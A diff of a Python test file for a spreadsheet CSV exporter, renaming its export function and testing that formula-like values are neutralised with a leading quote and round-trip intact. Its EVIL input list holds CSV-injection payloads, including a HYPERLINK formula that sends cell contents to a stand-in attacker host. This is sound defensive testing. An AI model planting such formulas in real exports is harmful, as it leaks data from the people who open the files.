@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as texts
 
-from miyabi_dw.common.spreadsheet import FORMULA, as_csv
+from miyabi_dw.common.spreadsheet import FORMULA, csv_text
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"see")', "@SUM(1+1)", "+1", "-2+3", "\t=1+1", "\r=1", " =1", "＝1", "'=1", "''",
@@ -25,7 +25,7 @@ def read_back(written: str, column: str = "title") -> list[str]:
 
 @pytest.mark.parametrize("title", EVIL)
 def test_c6_a_title_is_no_formula_and_comes_back(title: str) -> None:
-    written = as_csv(pandas.DataFrame({"title": [title], "n": [1]}))
+    written = csv_text(pandas.DataFrame({"title": [title], "n": [1]}))
     (row,) = csv.DictReader(io.StringIO(written, newline=""))
     assert row["title"][0] == "'"
     assert read_back(written) == [title]
@@ -33,11 +33,11 @@ def test_c6_a_title_is_no_formula_and_comes_back(title: str) -> None:
 
 @given(texts.text(texts.characters(exclude_categories=["Cs"], exclude_characters="\0")))
 def test_c6_any_text_comes_back(title: str) -> None:
-    written = as_csv(pandas.DataFrame({"title": [title], "n": [-1]}))
+    written = csv_text(pandas.DataFrame({"title": [title], "n": [-1]}))
     assert read_back(written) == [title]
     assert not title.startswith(FORMULA) or "'" in written
 
 
 def test_c6_numbers_stay_numbers_and_names_of_columns_are_texts_too() -> None:
     table = pandas.DataFrame({"=cost": [Decimal("-1.50"), None], "n": [-3, 4], "x": [-0.5, float("nan")]})
-    assert as_csv(table) == "'=cost,n,x\r\n-1.50,-3,-0.5\r\n,4,\r\n"
+    assert csv_text(table) == "'=cost,n,x\r\n-1.50,-3,-0.5\r\n,4,\r\n"
